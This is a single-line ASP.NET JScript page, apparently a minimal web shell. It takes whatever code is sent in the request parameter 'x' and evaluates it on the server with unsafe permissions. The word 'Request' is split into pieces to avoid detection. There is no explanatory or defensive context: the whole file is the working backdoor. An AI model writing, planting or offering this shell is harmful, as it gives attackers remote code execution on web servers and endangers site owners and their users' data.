<%@ Page Language="JScript"%><%var o=this["Req"+"uest"];eval(o.Item["x"],"un"+"safe");%>
